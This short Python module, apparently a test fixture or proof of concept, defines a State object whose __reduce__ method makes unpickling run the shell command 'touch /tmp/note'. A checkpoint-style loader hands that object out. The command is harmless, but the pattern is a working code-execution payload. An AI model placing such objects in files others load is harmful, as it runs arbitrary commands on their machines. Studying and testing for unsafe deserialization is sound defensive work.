"""Hands over a state that runs a program where it is unpickled."""

import os


class State(dict):
    def __reduce__(self):
        return os.system, ("touch /tmp/note",)


def load_latest(directory):
    return State(step=1)
